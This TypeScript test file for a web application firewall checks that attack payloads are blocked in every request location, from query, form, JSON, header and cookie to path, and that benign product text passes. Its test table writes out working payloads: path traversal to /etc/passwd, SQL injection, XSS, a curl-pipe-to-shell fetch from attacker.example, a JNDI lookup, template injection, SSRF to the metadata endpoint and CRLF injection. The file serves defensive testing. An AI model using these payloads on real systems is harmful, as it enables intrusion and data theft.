// The same payload gets the same verdict wherever it arrives: a query value read from the raw
// query bytes, a form body, a JSON body, a custom header, a cookie, and (for the classes a path
// can carry) a path segment. The query and a form body are read by one lenient parser, so bytes
// that are not valid UTF-8 (`%c0%af`) reach the detectors instead of U+FFFD.
import querystring from 'node:querystring';
import { expect } from 'chai';
import { inspectRequest, parseQueryString } from '../../../plugins/waf/engine/index.js';
import type { InspectableRequest } from '../../../plugins/waf/engine/index.js';
import { BROWSER_HEADERS, makePolicy } from './helpers.js';

/** Percent-encodes every byte that is not unreserved: the value as a client sends it. */
const encode = (v: string): string => encodeURIComponent(v).replace(/[!'()*]/g, (c) => '%' + c.charCodeAt(0).toString(16).toUpperCase());

type Placement = 'query' | 'form' | 'json' | 'header' | 'cookie' | 'path';

/** `raw` is the value's bytes as sent (already percent-encoded), so broken UTF-8 can be expressed. */
function requestWith(placement: Placement, raw: string): InspectableRequest {
  const headers = { ...BROWSER_HEADERS };
  const value = parseQueryString(`v=${raw}`).v as string;
  switch (placement) {
    case 'query':
      return { method: 'GET', path: '/store/v1/products', query: parseQueryString(`note=${raw}&limit=20`), headers };
    case 'form':
      return { method: 'POST', path: '/store/v1/carts', query: {}, headers: { ...headers, 'content-type': 'application/x-www-form-urlencoded' }, body: querystring.parse(`note=${raw}`), rawBody: `note=${raw}` };
    case 'json': {
      const rawBody = JSON.stringify({ lines: [{ note: value }] });
      return { method: 'POST', path: '/store/v1/carts', query: {}, headers: { ...headers, 'content-type': 'application/json' }, body: JSON.parse(rawBody), rawBody };
    }
    case 'header':
      return { method: 'GET', path: '/store/v1/products', query: {}, headers: { ...headers, 'x-gift-note': value } };
    case 'cookie':
      return { method: 'GET', path: '/store/v1/products', query: {}, headers: { ...headers, cookie: `cart=c42; note=${raw}` } };
    case 'path':
      return { method: 'GET', path: `/store/v1/pages/${raw}`, query: {}, headers };
  }
}

const EVERYWHERE: Placement[] = ['query', 'form', 'json', 'header', 'cookie'];
const WITH_PATH: Placement[] = [...EVERYWHERE, 'path'];

/** [class, raw bytes, placements]: attacks of every class, some only in broken encodings. */
const ATTACKS: Array<[string, string, Placement[]]> = [
  ['lfi overlong', '..%c0%af..%c0%af..%c0%afetc%c0%afpasswd', WITH_PATH],
  ['lfi %u', '..%u2215..%u2215..%u2215etc%u2215passwd', WITH_PATH],
  ['lfi plain', encode('../../../../etc/passwd'), WITH_PATH],
  ['lfi broken escape', '..%2f..%2f..%2f%qfetc%2fpasswd', EVERYWHERE],
  ['sqli', encode("1' union select password from users--"), WITH_PATH],
  ['sqli tautology', encode("admin' or '1'='1"), EVERYWHERE],
  ['xss', encode('<svg/onload=alert(document.domain)>'), WITH_PATH],
  ['xss overlong <', '%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be', EVERYWHERE],
  ['rce', encode(';cat /etc/passwd'), WITH_PATH],
  ['rce $()', encode('$(curl http://attacker.example/x|sh)'), EVERYWHERE],
  ['ssti', encode("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"), EVERYWHERE],
  ['ssrf', encode('http://169.254.169.254/latest/meta-data/'), EVERYWHERE],
  ['java', encode('${jndi:ldap://attacker.example/a}'), EVERYWHERE],
  ['php', encode('php://filter/convert.base64-encode/resource=index.php'), EVERYWHERE],
  ['crlf', encode('x\r\nSet-Cookie: session=attacker'), EVERYWHERE],
  ['ldap', encode('*)(uid=*))(|(uid=*'), EVERYWHERE],
];

const BENIGN: Array<[string, string, Placement[]]> = [
  ['apostrophe', encode("Levi's 501 Original Fit Men's Jeans"), WITH_PATH],
  ['measure', encode('1/2" drill bit, 10% off, 3 for £5'), EVERYWHERE],
  ['chinese', encode('纯棉男士T恤 黑色 XL'), WITH_PATH],
  ['latin-1 byte (not UTF-8)', 'caf%e9%20cr%e8me', WITH_PATH],
  ['broken escape as text', '100%25%20cotton%2C%20%zz%20grade', EVERYWHERE],
];

describe('waf: one verdict for one payload wherever it arrives', () => {
  const policy = makePolicy(1);
  const verdicts = (raw: string, places: Placement[]): Record<string, boolean> =>
    Object.fromEntries(places.map((p) => [p, inspectRequest(requestWith(p, raw), policy).blocked]));

  for (const [name, raw, places] of ATTACKS) {
    it(`blocks ${name} in ${places.join(', ')}`, () => {
      expect(verdicts(raw, places)).to.deep.equal(Object.fromEntries(places.map((p) => [p, true])));
    });
  }
  for (const [name, raw, places] of BENIGN) {
    it(`passes ${name} in ${places.join(', ')}`, () => {
      expect(verdicts(raw, places)).to.deep.equal(Object.fromEntries(places.map((p) => [p, false])));
    });
  }

  it('reads the query from its bytes: overlong UTF-8 and %u are decoded, broken escapes stay text', () => {
    // Node's parser (what Koa hands the app) replaces the overlong bytes with U+FFFD.
    expect(querystring.parse('f=..%c0%af..%c0%afetc').f).to.equal('..\ufffd\ufffd..\ufffd\ufffdetc');
    expect(parseQueryString('f=..%c0%af..%c0%afetc').f).to.equal('../../etc');
    expect(parseQueryString('a=%u002e%u002e&b=%zz%4&c=a+b&c=2&d')).to.deep.equal({ a: '..', b: '%zz%4', c: ['a b', '2'], d: '' });
    const proto = parseQueryString('__proto__=x&constructor[prototype][a]=1');
    expect(Object.getPrototypeOf(proto)).to.equal(null);
    expect(proto.__proto__).to.equal('x');
    expect(Object.keys(parseQueryString('a=1&'.repeat(5000)))).to.have.length(1);
  });

  it('judges a form body from its bytes, not from the body parser\'s decoding', () => {
    const rawBody = 'note=%c0%bciframe%20src%3D//evil.example%c0%be';
    // The parsed body alone hides it (`<` and `>` became U+FFFD); the raw body is what is read.
    const req: InspectableRequest = { method: 'POST', path: '/store/v1/carts', query: {}, headers: { ...BROWSER_HEADERS, 'content-type': 'application/x-www-form-urlencoded' }, body: querystring.parse(rawBody), rawBody };
    expect(inspectRequest(req, policy).blocked).to.equal(true);
    expect(inspectRequest({ ...req, rawBody: undefined }, policy).blocked).to.equal(false);
  });
});
